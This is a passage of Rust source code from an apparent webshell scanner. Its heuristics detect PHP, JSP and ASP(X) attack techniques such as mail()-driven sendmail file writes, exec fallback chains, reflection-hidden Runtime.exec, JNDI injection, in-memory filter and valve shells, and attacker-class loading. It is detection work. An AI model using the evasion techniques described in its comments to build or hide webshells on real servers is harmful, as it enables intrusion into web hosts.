/// `mail('', '', $code, '', '-X /var/www/x.php')`: the fifth argument is handed to sendmail,
/// whose `-X` writes a log of the whole conversation (the message, PHP in it too) to that
/// path, and whose `-C` and `-OQueueDirectory` move its configuration and queue: a way to
/// write a page where `file_put_contents` is watched or disabled. Mail code passes `-f`.
fn mail_log_write(t: &str, hits: &mut Vec<Hit>) {
    for p in find_all(t, "mail(").take(1000) {
        if !plain_name_at(t, p) {
            continue;
        }
        let Some(args) = crate::php_tricks::arguments(near(&t[p + 4..], 4096)) else {
            continue;
        };
        let Some(extra) = args.get(4) else { continue };
        let flag = ["-x", "-c", "-oqueuedirectory"].iter().find(|f| {
            find_all(extra, f).take(16).any(|q| {
                let before = extra[..q].chars().next_back();
                let after = extra[q + f.len()..].chars().next();
                matches!(before, Some('\'' | '"' | ' '))
                    && after.is_some_and(|c| matches!(c, ' ' | '/' | '.' | '=' | '\'' | '"'))
            })
        });
        if let Some(flag) = flag {
            hits.push(hit(
                "scan.heuristic.mail_file_write",
                Severity::High,
                "mail() makes sendmail write a file",
                format!("the fifth argument of `mail()` passes `{}` to sendmail, which writes its log or reads its configuration at a path the script chooses: the message, with any PHP in it, lands as a file (a page written without `file_put_contents`)", flag.to_uppercase().replace("-OQUEUEDIRECTORY", "-OQueueDirectory")),
                p,
            ));
            return;
        }
    }
}

/// `if (function_exists('exec')) … elseif (function_exists('shell_exec')) … elseif
/// (is_callable('system'))`: asking which of several command functions the host left enabled,
/// to run a command through whichever works. Shells, bots and their droppers do this;
/// an application that needs a command calls the one it needs (none of the 18,800 benign
/// PHP files of the corpora asks about three).
fn exec_fallbacks(t: &str, hits: &mut Vec<Hit>) {
    let mut asked: Vec<&str> = Vec::new();
    let mut first = None;
    for probe in ["function_exists", "is_callable"] {
        // Each question costs a few bytes to read: all of them are read, so that a shell
        // cannot hide its chain behind a page of other `function_exists` calls.
        for at in find_all(t, probe) {
            let arg = t[at + probe.len()..]
                .trim_start()
                .strip_prefix('(')
                .map(str::trim_start)
                .unwrap_or("");
            let Some(q) = arg.chars().next().filter(|q| ['\'', '"'].contains(q)) else {
                continue;
            };
            let name = near(&arg[1..], 32).split(q).next().unwrap_or("");
            if let Some(f) = COMMAND_FUNCTIONS.iter().find(|f| **f == name)
                && !asked.contains(f)
            {
                asked.push(f);
                first = Some(first.map_or(at, |f: usize| f.min(at)));
            }
        }
    }
    // And runs one of them on a variable: a page that only reports which functions are
    // disabled (a server-health check) asks the same questions and runs nothing.
    let runs = || {
        asked.iter().any(|f| {
            find_all(t, f).take(1000).any(|at| {
                plain_name_at(t, at)
                    && t[at + f.len()..]
                        .trim_start()
                        .strip_prefix('(')
                        .is_some_and(|a| a.trim_start().trim_start_matches('@').starts_with('$'))
            })
        })
    };
    let names = |asked: &[&str]| {
        asked
            .iter()
            .map(|f| format!("`{f}`"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let (what, first) = if asked.len() >= 3 {
        if !runs() {
            return;
        }
        (
            format!("asks whether {} are enabled", names(&asked)),
            first.unwrap_or(0),
        )
    } else {
        let Some((at, looped)) = fallback_loop(t) else {
            return;
        };
        (
            format!("loops over {}, asking which is enabled", names(&looped)),
            at,
        )
    };
    hits.push(hit(
        "scan.heuristic.exec_fallbacks",
        Severity::High,
        "Tries one command function after another",
        format!(
            "the script {what}, to run a command through whichever the host allows: the fallback chain of webshells and bots"
        ),
        first,
    ));
}

/// The same chain as a loop, `foreach (['system', 'passthru', 'exec'] as $fn) { if
/// (function_exists($fn)) return $fn($c); }`: where the loop starts and the command functions
/// it names, when it asks about its variable and calls it.
fn fallback_loop(t: &str) -> Option<(usize, Vec<&'static str>)> {
    find(t, "foreach")?;
    // The whole file is searched only for a loop over three command names or more, once per
    // loop variable, for 16 variables at most.
    let mut searched: Vec<&str> = Vec::new();
    for at in find_all(t, "foreach").take(1000) {
        let head = near(&t[at..], 1024);
        let Some(as_at) = head.find(" as $") else {
            continue;
        };
        let var = &head[as_at + 4..];
        let var = &var[..1 + var[1..]
            .find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(var.len() - 1)];
        let list = &head[..as_at];
        let named: Vec<&'static str> = COMMAND_FUNCTIONS
            .iter()
            .copied()
            .filter(|f| list.contains(&format!("'{f}'")) || list.contains(&format!("\"{f}\"")))
            .collect();
        if var.len() < 2 || named.len() < 3 || searched.contains(&var) {
            continue;
        }
        if searched.len() >= 16 {
            return None;
        }
        searched.push(var);
        let probed = ["function_exists(", "is_callable("]
            .iter()
            .any(|p| find(t, &format!("{p}{var})")).is_some());
        if probed && find(t, &format!("{var}(")).is_some() {
            return Some((at, named));
        }
    }
    None
}

/// A PHP value without what changes nothing about where it came from: `@`, opening brackets
/// and string casts (`($_REQUEST['c'])`, `@(string) $_GET['c']` are the request's value).
pub(crate) fn bare_php_value(mut v: &str) -> &str {
    loop {
        let before = v;
        v = v.trim_start_matches(['@', '(', ' ', '\t']);
        for cast in ["string)", "array)", "binary)"] {
            v = v.strip_prefix(cast).unwrap_or(v);
        }
        if v == before {
            return v;
        }
    }
}

/// Whether an assignment's value comes straight from request input:
/// `$x = $_POST;`, `$c = @$_GET['c'];`, `$p = base64_decode($_COOKIE['p']);`.
fn from_input(s: &str) -> bool {
    let Some(eq) = s.find('=') else { return false };
    // `$c = $_GET['a'] == 'y' ? 'ls' : 'pwd'`: the value is a branch, not the test.
    match ternary_branches(near(&s[eq + 1..], 4096)) {
        Some((yes, no)) => value_from_input(yes) || value_from_input(no),
        None => value_from_input(&s[eq + 1..]),
    }
}

/// Whether an assigned value is request input, as `from_input` reads it.
fn value_from_input(value: &str) -> bool {
    // `json_decode(file_get_contents('php://input'), true)`: parsing hands the request back.
    let rhs = parsed(value);
    let direct = PHP_INPUT.iter().any(|i| rhs.starts_with(i));
    let decoded =
        DECODERS.iter().any(|d| rhs.starts_with(d)) && PHP_INPUT.iter().any(|i| rhs.contains(i));
    // The body read whole: `file_get_contents('php://input')`,
    // `stream_get_contents(fopen('php://input', 'rb'))`.
    let body = ["file_get_contents(", "stream_get_contents(fopen("]
        .iter()
        .filter_map(|r| rhs.strip_prefix(r))
        .any(|r| {
            let r = r.trim_start();
            r.starts_with("\"php://input") || r.starts_with("'php://input")
        });
    direct || decoded || body
}

/// `value` without the calls around it that parse, decrypt or pick from what they are given
/// (`json_decode(`, `trim(`, `openssl_decrypt(`, `end(`, `array_keys(`…), in any order: what
/// is left is what the value was made from.
fn parsed(value: &str) -> &str {
    const PARSING: &[&str] = &[
        "json_decode(",
        "unserialize(",
        "trim(",
        "stripslashes(",
        "urldecode(",
        // Decrypted, the request is still the request (Behinder's AES over the body).
        "openssl_decrypt(",
        "mcrypt_decrypt(",
    ];
    let mut rhs = value;
    loop {
        let next = without_calls(without_calls(rhs, PARSING), ELEMENT_CALLS);
        if next.len() == rhs.len() {
            return rhs;
        }
        rhs = next;
    }
}

/// Statement `s` from its first word: without the space, `;` and braces before it, or the
/// `<?php` that opens the file.
fn statement_start(s: &str) -> &str {
    let t = s.trim_start_matches(|c: char| c.is_whitespace() || c == ';' || c == '{' || c == '}');
    let t = t.strip_prefix("<?php").unwrap_or(t).trim_start();
    // Most statements start with their variable and close no bracket they did not open:
    // only those with a `)` right before a `$` are read further.
    let bytes = t.as_bytes();
    let paren_then_variable = || {
        memchr::memchr_iter(b')', &bytes[..bytes.len().min(1024)]).any(|p| {
            let after = &bytes[p + 1..];
            let after = after.strip_prefix(b" ").unwrap_or(after);
            after.first() == Some(&b'$')
        })
    };
    match bytes.first() {
        Some(b'$') if !paren_then_variable() => return t,
        Some(b'i' | b'e' | b'w' | b'f' | b'$') => {}
        _ => return t,
    }
    // The body of a control statement without braces: `if ($x) $c = …`, and the last part of
    // a `for` header cut at its `;` (`$i += 2) $code .= chr(…)`).
    let header = ["if", "elseif", "while", "foreach", "for"]
        .iter()
        .find_map(|k| {
            t.strip_prefix(k)
                .filter(|r| r.trim_start().starts_with('('))
        });
    let (from, mut depth) = match header {
        Some(r) => (t.len() - r.len(), 0i32),
        None => (0, 1),
    };
    for (i, c) in crate::php_tricks::unquoted(near(&t[from..], 1024)) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    let body = t[from + i + 1..].trim_start();
                    return if body.starts_with('$') { body } else { t };
                }
            }
            ';' => return t,
            _ => {}
        }
    }
    t
}

/// `$name` and what follows the `=` in `$name = …` at the start of a statement.
pub(crate) fn assigned_variable(s: &str) -> Option<(&str, &str)> {
    let t = statement_start(s);
    let rest = t.strip_prefix('$')?;
    let len = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))?;
    let value = rest[len..].trim_start().strip_prefix('=')?;
    (len > 0 && !value.starts_with(['=', '>'])).then(|| (&t[..len + 1], value))
}

/// The first `n` bytes of `s` (fewer to end on a character): what a search for the end of a
/// call or a body looks at, so that a page without one is not searched to its end each time.
pub(crate) fn near(s: &str, n: usize) -> &str {
    &s[..s.floor_char_boundary(n)]
}

/// Where `pattern` occurs in `t`, as `str::find`, with memchr's vectorised search: std's is
/// several times slower over a whole file.
pub(crate) fn find(t: &str, pattern: &str) -> Option<usize> {
    memchr::memmem::find(t.as_bytes(), pattern.as_bytes())
}

/// Every place `pattern` occurs in `t`, not overlapping, as `str::match_indices` (vectorised).
pub(crate) fn find_all<'a>(t: &'a str, pattern: &'a str) -> impl Iterator<Item = usize> + 'a {
    memchr::memmem::find_iter(t.as_bytes(), pattern.as_bytes())
}

/// Whether a name at `at` in `s` stands on its own as a function: not the end of a longer
/// name (`doeval`), a method (`->eval`, `::eval`) or a variable (`$eval`).
pub(crate) fn plain_name_at(s: &str, at: usize) -> bool {
    !s[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '>' | ':' | '$'))
}

/// Whether `s` starts with the variable `name` as a whole name (`$c`, `$c[0]`, not `$cmd`).
pub(crate) fn starts_with_name(s: &str, name: &str) -> bool {
    s.strip_prefix(name)
        .is_some_and(|rest| !rest.starts_with(crate::flows::is_ident))
}

/// `eval(` as a call, not as part of a longer name (`doeval(`) or a method (`->eval(`).
fn contains_call(s: &str, call: &str) -> bool {
    // memmem's vectorised search: `str::find` is several times slower on whole files.
    find_all(s, call).any(|at| plain_name_at(s, at))
}

/// `v` without the calls of `wrappers` around it that hand their argument back:
/// `trim(fgets($s))` is read as `fgets($s)`.
pub(crate) fn without_calls<'a>(mut v: &'a str, wrappers: &[&str]) -> &'a str {
    v = bare_php_value(v);
    while let Some(inner) = wrappers.iter().find_map(|w| v.strip_prefix(w)) {
        v = bare_php_value(inner);
    }
    v
}

/// A dangerous function name written as `"ev"."al"`, `chr(101).chr(118)…` or `"\x65\x76…"`.
fn assembled_name(t: &str) -> Option<(usize, String)> {
    let b = t.as_bytes();
    // Concatenated literals: 'as'.'se'.'rt'
    let mut i = 0;
    while let Some(q) = memchr::memchr2(b'"', b'\'', &b[i..]) {
        i += q;
        let start = i;
        let mut joined = String::new();
        let mut pieces = 0;
        let mut j = i;
        while j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
            let q = b[j];
            let Some(end) = t[j + 1..].find(q as char) else {
                break;
            };
            let piece = &t[j + 1..j + 1 + end];
            if piece.len() > 12 || piece.contains(['\\', '$', ' ']) {
                break;
            }
            j = j + 2 + end;
            let rest = t[j..].trim_start();
            // A lone literal joins nothing: most literals end here, unallocated.
            if pieces == 0 && !rest.starts_with('.') {
                break;
            }
            joined.push_str(piece);
            pieces += 1;
            if joined.len() > 32 {
                break;
            }
            if let Some(r) = rest.strip_prefix('.') {
                let r2 = r.trim_start();
                j = t.len() - r2.len();
            } else {
                break;
            }
        }
        if pieces >= 2 && DANGEROUS_NAMES.contains(&joined.as_str()) {
            return Some((start, joined));
        }
        i = j.max(i + 1);
    }
    // chr(101).chr(118)… Each chain is decoded once, from its first link: starting again at
    // every link of a long chain made this quadratic.
    let mut chain_end = 0;
    for p in find_all(t, "chr(").take(200) {
        if p < chain_end {
            continue;
        }
        let mut name = String::new();
        let mut rest = &t[p..];
        while let Some(r) = rest.strip_prefix("chr(") {
            let Some(close) = r.find(')') else { break };
            let Ok(v) = r[..close].trim().parse::<u8>() else {
                break;
            };
            name.push(char::from(v).to_ascii_lowercase());
            rest = r[close + 1..].trim_start();
            rest = rest.strip_prefix('.').map(str::trim_start).unwrap_or("");
        }
        chain_end = t.len() - rest.len();
        if DANGEROUS_NAMES.iter().any(|d| name.contains(d)) {
            return Some((p, name));
        }
    }
    // "\x65\x76\x61\x6c": each run decoded once (a 60 MB run of escapes once took 38 s).
    let mut run_end = 0;
    for p in find_all(t, "\\x") {
        if p < run_end {
            continue;
        }
        let mut name = String::new();
        let mut rest = &t[p..];
        while let Some(r) = rest.strip_prefix("\\x") {
            let Some(v) = r.get(..2).and_then(|h| u8::from_str_radix(h, 16).ok()) else {
                break;
            };
            name.push(char::from(v).to_ascii_lowercase());
            rest = &r[2..];
        }
        run_end = t.len() - rest.len();
        if DANGEROUS_NAMES.iter().any(|d| name.contains(d)) {
            return Some((p, name));
        }
    }
    None
}

fn jsp(t: &str, hits: &mut Vec<Hit>) {
    jsp_fixed(t, hits);
    crate::flows::jsp(t, hits);
    // `\u0052untime` is `Runtime` to the Java compiler, and `&#x52;` to a JSPX page's XML
    // parser: read the page as they will, and say what the decoding revealed.
    if let Some((first, decoded)) = java_unescaped(t) {
        let mut revealed = Vec::new();
        jsp_fixed(&decoded, &mut revealed);
        crate::flows::jsp(&decoded, &mut revealed);
        for mut h in revealed {
            if hits.iter().any(|k| k.check == h.check) {
                continue;
            }
            h.why = format!(
                "{} (seen after decoding the page's \\u escapes or character references, which hide it from plain reading)",
                h.why
            );
            h.offset = Some(first);
            hits.push(h);
        }
    }
}

/// The shell a PHP file starts with no command of its own (`popen('/bin/sh', 'w')`,
/// `proc_open('bash -i', …)`, `proc_open(['cmd.exe'], …)`), which reads its commands from
/// the pipe. Programs given a command or arguments (`popen('/usr/sbin/sendmail -t', 'w')`,
/// `sh -c …`) are not.
fn bare_shell_opened(t: &str) -> Option<&'static str> {
    const SHELLS: &[&str] = &[
        "sh",
        "bash",
        "dash",
        "zsh",
        "ksh",
        "ash",
        "csh",
        "tcsh",
        "cmd",
        "cmd.exe",
        "powershell",
        "powershell.exe",
        "pwsh",
    ];
    for call in ["popen(", "proc_open("] {
        for p in find_all(t, call).take(100) {
            if !plain_name_at(t, p) {
                continue;
            }
            let Some(args) = crate::php_tricks::arguments(near(&t[p + call.len() - 1..], 1024))
            else {
                continue;
            };
            let Some(first) = args.first() else { continue };
            let first = first.trim();
            let first = first
                .strip_prefix("array(")
                .or_else(|| first.strip_prefix('['))
                .unwrap_or(first)
                .trim_start();
            let Some(quote) = first.chars().next().filter(|c| matches!(c, '\'' | '"')) else {
                continue;
            };
            let body = &first[1..];
            let Some(end) = body.find(quote) else {
                continue;
            };
            let mut words = body[..end].split_whitespace();
            let Some(program) = words.next() else {
                continue;
            };
            let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
            let Some(shell) = SHELLS.iter().find(|s| **s == name) else {
                continue;
            };
            let flags_only = words.all(|w| {
                (w.starts_with('-') || w.starts_with('/'))
                    && !matches!(w, "-c" | "/c" | "/k" | "-command" | "-encodedcommand")
            });
            if flags_only {
                return Some(shell);
            }
        }
    }
    None
}

/// `Runtime rt = Runtime.getRuntime(); … rt.exec(…)`: where the runtime, kept in a variable,
/// starts a process.
fn runtime_held(t: &str) -> Option<usize> {
    for (p, _) in t.match_indices("runtime.getruntime()").take(50) {
        let Some(lhs) = t[..p].trim_end().strip_suffix('=') else {
            continue;
        };
        let lhs = lhs.trim_end();
        let var = &lhs[lhs
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |i| i + 1)..];
        if var.is_empty() {
            continue;
        }
        let call = format!("{var}.exec(");
        if let Some(at) = t[p..].find(&call) {
            return Some(p + at);
        }
    }
    None
}

/// A `java.beans.Statement` or `Expression` on the runtime or a process builder: the method
/// (`exec`, often spelled in pieces) is called by name, so no `.exec(` is written.
fn jsp_beans_call(t: &str) -> Option<usize> {
    ["statement(", "expression("].iter().find_map(|b| {
        t.match_indices(b).find_map(|(p, _)| {
            let target = t[p + b.len()..].trim_start();
            let made = t[..p].ends_with("new ") || t[..p].ends_with("new java.beans.");
            let runtime = target.starts_with("runtime.getruntime()")
                || target.starts_with("new processbuilder(");
            (made && runtime).then_some(p)
        })
    })
}

/// How a page lists a database's tables (JDBC metadata, MySQL, Oracle, the SQL standard).
const TABLE_LISTINGS: &[&str] = &[
    "gettables(",
    "show tables",
    "select table_name",
    "dba_tables",
    "all_tables",
    "user_tables",
    "information_schema.tables",
];

/// A JSP page that connects to a database, lists its tables and selects every row of a table
/// it names at run time: the dump tool of a "dragging" incident, which copies a customer
/// database out through the web server. Web applications query their own tables by name.
fn jsp_table_dump(t: &str, hits: &mut Vec<Hit>) {
    if !t.contains("getconnection(") {
        return;
    }
    let Some(listing) = TABLE_LISTINGS.iter().find(|l| t.contains(*l)) else {
        return;
    };
    let Some(p) = [
        "select * from \"+",
        "select * from \" +",
        "select * from \"\n+",
    ]
    .iter()
    .find_map(|q| t.find(q)) else {
        return;
    };
    hits.push(hit(
        "scan.heuristic.jsp_table_dump",
        Severity::High,
        "JSP dumps whole database tables",
        format!(
            "the page connects to a database, lists its tables (`{listing}`) and selects every row of a table it names at run time: a tool for copying a database out through the web server"
        ),
        p,
    ));
}

/// The page with Java `\uXXXX` escapes and XML character references (`&#x52;`, `&#82;`)
/// decoded, and where the first was, when they can hide code: eight or more of them, one
/// `\u` escape of a plain ASCII character (`\u0052untime`; text in other scripts is written
/// this way, code has no need to), or one reference in a JSP document (XML syntax), whose
/// container decodes them in scriptlets too, named ones (`&quot;`) included.
fn java_unescaped(t: &str) -> Option<(usize, String)> {
    let xml = ["<jsp:scriptlet", "<jsp:declaration", "<jsp:expression"]
        .iter()
        .any(|e| t.contains(e));
    let references = t.matches("&#").count();
    let ascii_escape = || {
        t.match_indices("\\u").take(100_000).any(|(p, _)| {
            let hex = t[p + 2..].trim_start_matches('u');
            hex.get(..4)
                .and_then(|h| u32::from_str_radix(h, 16).ok())
                .is_some_and(|c| (0x21..0x7f).contains(&c))
        })
    };
    let count = t.matches("\\u").count() + references;
    if count < 8 && !(xml && references > 0) && !ascii_escape() {
        return None;
    }
    let mut out = String::with_capacity(t.len());
    let mut first = None;
    let mut rest = t;
    while let Some(k) = rest.find(['\\', '&']) {
        out.push_str(&rest[..k]);
        let at = &rest[k..];
        let decoded = if let Some(u) = at.strip_prefix("\\u") {
            // Java allows any number of u's: \uuuu0041.
            let hex = u.trim_start_matches('u');
            hex.get(..4)
                .and_then(|h| u32::from_str_radix(h, 16).ok())
                .and_then(char::from_u32)
                .map(|c| (c, at.len() - hex.len() + 4))
        } else if let Some(r) = at.strip_prefix("&#") {
            let (digits, radix) = match r.strip_prefix(['x', 'X']) {
                Some(h) => (h, 16),
                None => (r, 10),
            };
            let end = digits.find(';').filter(|&e| (1..=6).contains(&e));
            end.and_then(|e| u32::from_str_radix(&digits[..e], radix).ok())
                .and_then(char::from_u32)
                .map(|c| (c, at.len() - digits.len() + end.unwrap_or(0) + 1))
        } else if xml {
            [
                ("&quot;", '"'),
                ("&apos;", '\''),
                ("&lt;", '<'),
                ("&gt;", '>'),
                ("&amp;", '&'),
            ]
            .iter()
            .find(|(name, _)| at.starts_with(name))
            .map(|&(name, c)| (c, name.len()))
        } else {
            None
        };
        match decoded {
            Some((c, used)) => {
                first.get_or_insert(t.len() - at.len());
                out.push(c.to_ascii_lowercase());
                rest = &at[used..];
            }
            None => {
                out.push_str(&at[..1]);
                rest = &at[1..];
            }
        }
    }
    out.push_str(rest);
    first.map(|f| (f, out))
}

fn jsp_fixed(t: &str, hits: &mut Vec<Hit>) {
    let request = t.contains("request.getparameter")
        || t.contains("request.getinputstream")
        || t.contains("request.getreader");
    jsp_table_dump(t, hits);
    if let Some(p) = jsp_beans_call(t) {
        hits.push(hit(
            "scan.heuristic.jsp_exec",
            Severity::Critical,
            "JSP runs commands through a bean call",
            "a java.beans Statement/Expression calls a method of the Java runtime or a process builder by name: commands run without `.exec(` written anywhere".into(),
            p,
        ));
    }
    if let Some(p) = t
        .find("runtime.getruntime().exec(")
        .or_else(|| t.find("new processbuilder("))
        .or_else(|| runtime_held(t))
        && request
    {
        hits.push(hit(
            "scan.heuristic.jsp_exec",
            Severity::Critical,
            "JSP runs commands from the request",
            "the page reads request parameters and starts operating-system commands (Runtime.exec / ProcessBuilder)".into(),
            p,
        ));
    }
    if request
        && let Some(p) = t.find("scriptenginemanager").or_else(|| t.find("jshell"))
        && t.contains(".eval(")
    {
        hits.push(hit(
            "scan.heuristic.jsp_script_engine",
            Severity::Critical,
            "JSP evaluates request data with a script engine",
            "the page hands request data to a script engine's or JShell's eval (JavaScript/Nashorn, Java snippets): arbitrary code".into(),
            p,
        ));
    }
    // `(Process) m.invoke(…)`, `(Process) ve.getValue(ctx)`: a process that came back from a
    // reflective call or an expression, not from Runtime.exec or ProcessBuilder by name. Code
    // that starts a process has it typed already; the cast is how a shell hides the call.
    if request
        && let Some(p) = t.match_indices("(process)").map(|(p, _)| p).find(|&p| {
            // The statement within 300 bytes: the `;` is looked for there, not in the rest of
            // the file, once per cast.
            let expr = &t[p + "(process)".len()..];
            let expr = &expr[..expr.floor_char_boundary(300)];
            let expr = &expr[..expr.find(';').unwrap_or(expr.len())];
            [".invoke(", ".getvalue(", ".eval(", ".newinstance(", ".get("]
                .iter()
                .any(|m| expr.contains(m))
        })
    {
        hits.push(hit(
            "scan.heuristic.jsp_hidden_process",
            Severity::High,
            "JSP starts a process through reflection or an expression",
            "a page that reads request input casts what a reflective call, an expression or a script engine returns to a Process: a command started without naming Runtime.exec or ProcessBuilder".into(),
            p,
        ));
    }
    // `MethodHandles.lookup().findVirtual(Runtime.class, "exec", …)`,
    // `Runtime.class.getMethod("exec", …)`: Runtime.exec called by name through reflection.
    if request
        && (t.contains("runtime.class") || t.contains("\"java.lang.runtime\""))
        && let Some(p) = t.find("\"exec\"")
    {
        hits.push(hit(
            "scan.heuristic.jsp_hidden_process",
            Severity::High,
            "JSP starts a process through reflection or an expression",
            "a page that reads request input reaches Runtime's `exec` by name through reflection or a method handle: a command started without writing `.exec(`".into(),
            p,
        ));
    }
    // `${Runtime.getRuntime().exec(param.c)}`: an EL expression (EL 3.0 reaches any class)
    // that starts a process or loads a class. Pages' expressions read beans and parameters.
    if let Some(p) = ["${", "#{"]
        .iter()
        .flat_map(|open| t.match_indices(open).take(1000))
        .map(|(p, _)| p)
        .find(|&p| {
            let expr = near(&t[p..], 512);
            let expr = &expr[..expr.find('}').unwrap_or(expr.len())];
            [
                "getruntime()",
                "processbuilder(",
                "scriptenginemanager",
                "forname(",
            ]
            .iter()
            .any(|m| expr.contains(m))
        })
    {
        hits.push(hit(
            "scan.heuristic.jsp_exec",
            Severity::Critical,
            "JSP expression language starts a process",
            "an EL expression of the page calls the Java runtime, a process builder, a script engine or a class by name: commands run from an expression, without a scriptlet".into(),
            p,
        ));
    }
    // The JDK's own process classes, reached by name: what Runtime.exec calls inside, used to
    // slip past checks (and RASP hooks) on Runtime and ProcessBuilder. No page needs them.
    if let Some(p) = [
        "java.lang.processimpl",
        "java.lang.unixprocess",
        "processimpl\"",
    ]
    .iter()
    .find_map(|m| t.find(m))
    {
        hits.push(hit(
            "scan.heuristic.jsp_internal_process",
            Severity::Critical,
            "JSP starts processes through the JDK's internal process class",
            "the page names java.lang.ProcessImpl/UNIXProcess, the class under Runtime.exec, to start commands without calling Runtime or ProcessBuilder".into(),
            p,
        ));
    }
    // Classes fetched from a URL and run, request data deserialised, a JNDI name from the
    // request: ways to run code that never mention Runtime.
    if let Some(p) = t.find("new urlclassloader(")
        && t.contains("new url(")
        && t.contains(".loadclass(")
    {
        hits.push(hit(
            "scan.heuristic.jsp_remote_class",
            Severity::Critical,
            "JSP loads and runs classes from a URL",
            "the page builds a URLClassLoader over a URL and loads a class from it: code fetched from elsewhere runs in the server".into(),
            p,
        ));
    }
    if request
        // Also spelt with the package: `new java.io.ObjectInputStream(`.
        && let Some(p) = ["xmldecoder(", "objectinputstream("]
            .iter()
            .find_map(|m| t.find(m))
        && t.contains(".readobject(")
    {
        hits.push(hit(
            "scan.heuristic.jsp_deserialize",
            Severity::Critical,
            "JSP deserialises request data",
            "the page reads request data and deserialises objects from it (XMLDecoder/ObjectInputStream readObject): a serialized payload runs code".into(),
            p,
        ));
    }
    if request
        && let Some(p) = t
            .find("jdbcrowsetimpl")
            .or_else(|| t.find("new initialcontext("))
        && (t.contains(".setdatasourcename(") || t.contains(".lookup("))
        && t.contains("trusturlcodebase")
    {
        hits.push(hit(
            "scan.heuristic.jsp_jndi",
            Severity::Critical,
            "JSP looks up a JNDI name from the request with remote code allowed",
            "the page turns on trustURLCodebase and looks up a name the request gives (JNDI injection): an LDAP/RMI server of the attacker's serves the class that runs".into(),
            p,
        ));
    }
    // A page that adds a filter, servlet, listener, valve, controller or WebSocket endpoint to
    // the running server: the "memory shell", which answers on any URL and outlives the
    // page's deletion.
    let registers = [
        ("addfilterdef(", "standardcontext"),
        ("addfiltermap", "standardcontext"),
        ("addservletmapping", "standardcontext"),
        ("addapplicationeventlistener(", "standardcontext"),
        ("addendpoint(", "servercontainer"),
        // Tomcat's request pipeline: a valve sees every request before any application.
        ("addvalve(", "getpipeline()"),
        // Spring MVC: a controller method mapped to a path at run time.
        ("registermapping(", "requestmappinghandlermapping"),
    ];
    if let Some((p, call)) = registers
        .iter()
        .find_map(|(call, with)| t.find(call).filter(|_| t.contains(with)).map(|p| (p, call)))
    {
        hits.push(hit(
            "scan.heuristic.jsp_memory_shell",
            Severity::Critical,
            "JSP registers a filter, servlet, listener, valve, controller or endpoint at run time",
            format!(
                "the page calls `{}` on the running server's context: a memory-resident shell that answers on any URL and survives the page being deleted",
                call.trim_end_matches('(')
            ),
            p,
        ));
    }
    if request
        && let Some(p) = t.find("getruntime")
        && t.contains(".invoke(")
        && (t.contains("getmethod(\"exec\"") || t.contains("class.forname("))
    {
        hits.push(hit(
            "scan.heuristic.jsp_reflection_exec",
            Severity::Critical,
            "JSP runs commands through reflection",
            "Runtime.exec reached through reflection (getMethod/invoke) with request data: a command shell hidden from simple signatures".into(),
            p,
        ));
    }
    if let Some(p) = t.find("defineclass")
        && t.contains("classloader")
        && (t.contains("base64") || t.contains("aes") || request)
    {
        hits.push(hit(
            "scan.heuristic.jsp_defineclass",
            Severity::Critical,
            "JSP defines Java classes from request data",
            "the page builds a ClassLoader and defines a class from decoded or decrypted data: the Behinder/Godzilla way to run attacker bytecode".into(),
            p,
        ));
    }
}

fn asp(t: &str, hits: &mut Vec<Hit>) {
    asp_fixed(t, hits);
    crate::flows::asp(t, hits);
    crate::asp_tricks::scan(t, hits);
}

fn asp_fixed(t: &str, hits: &mut Vec<Hit>) {
    // An XSLT stylesheet with a script block that reaches a shell: run through
    // MSXML's transformNode, it executes commands without a WScript.Shell line in the page.
    if let Some(p) = t.find("msxsl:script")
        && [
            "wscript.shell",
            "shell.application",
            "process.start",
            "diagnostics.process",
        ]
        .iter()
        .any(|m| t.contains(m))
    {
        hits.push(hit(
            "scan.heuristic.asp_xslt_exec",
            Severity::Critical,
            "ASP(X) runs commands from an XSLT script block",
            "an msxsl:script block in a stylesheet the page builds starts a shell or process: commands run through the XML transform".into(),
            p,
        ));
    }
    if let Some(p) = msxml_request_stylesheet(t) {
        hits.push(hit(
            "scan.heuristic.asp_xslt_exec",
            Severity::Critical,
            "ASP runs an XSLT stylesheet from the request",
            "the page loads a stylesheet from request input into an MSXML document and transforms with it (`transformNode`): MSXML 3 runs the stylesheet's `msxsl:script` blocks, so the request's script runs on the server".into(),
            p,
        ));
    }
    // `Assembly.Load(bytes)`, or the same through the application domain; not of a name
    // (`Assembly.Load("System.Web")`). Any request input counts: headers and cookies carry
    // the bytes as well as the body.
    if let Some(p) = t
        .find("assembly.load(")
        .or_else(|| t.find("currentdomain.load("))
        && !t[p..]
            .split_once('(')
            .is_some_and(|(_, arg)| arg.trim_start().starts_with('"'))
        && crate::flows::ASP_INPUT.iter().any(|i| t.contains(i))
    {
        hits.push(hit(
            "scan.heuristic.asp_assembly",
            Severity::Critical,
            "ASPX loads a .NET assembly from request data",
            "Assembly.Load on bytes read from the request runs attacker-supplied code (Behinder/Godzilla ASPX)".into(),
            p,
        ));
    }
}

/// `Response.Write xml.transformNode(xsl)` where `xsl.loadXML Request("x")` (or `.load` of a
/// variable set from the request): the stylesheet, not only the data, is the request's.
/// A page that renders posted XML with its own stylesheet loads the request into the other
/// document.
fn msxml_request_stylesheet(t: &str) -> Option<usize> {
    fn ident(s: &str) -> &str {
        let s = s.trim_start();
        let n = s
            .find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(s.len());
        &s[..n]
    }
    let from_request = |s: &str| crate::flows::ASP_INPUT.iter().any(|i| s.contains(i));
    // The documents transformed with (the first 64 names).
    let mut sheets: Vec<&str> = Vec::new();
    for p in find_all(t, ".transformnode").take(10_000) {
        let rest = &t[p + ".transformnode".len()..];
        let rest = rest.strip_prefix("toobject").unwrap_or(rest);
        if let Some(arg) = rest.trim_start().strip_prefix('(')
            && let sheet = ident(arg)
            && !sheet.is_empty()
            && !sheets.contains(&sheet)
            && sheets.len() < 64
        {
            sheets.push(sheet);
        }
    }
    if sheets.is_empty() {
        return None;
    }
    // Then each load, in one pass: what one of them is loaded from.
    let mut variables_read = 0;
    for q in find_all(t, ".load").take(10_000) {
        let before = &t[..q];
        let object = &before[before
            .rfind(|c: char| !crate::flows::is_ident(c))
            .map_or(0, |i| i + 1)..];
